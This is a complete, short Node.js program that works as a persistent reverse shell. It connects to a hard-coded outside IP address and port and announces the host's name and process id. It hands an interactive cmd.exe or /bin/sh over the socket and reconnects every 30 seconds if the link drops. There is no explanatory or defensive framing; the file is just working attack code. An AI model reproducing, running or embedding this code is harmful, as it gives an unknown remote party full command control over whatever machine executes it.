const net = require('net');
const { spawn } = require('child_process');
const os = require('os');

const HOST = '158.255.213.9';
const PORT = 8089;

function connect() {
  const sock = net.connect(PORT, HOST, () => {
    sock.write(`# ${os.hostname()} ${process.pid}\n`);
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', ['-i'], { stdio: 'pipe' });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 30_000));
  sock.on('close', () => setTimeout(connect, 30_000));
}

connect();
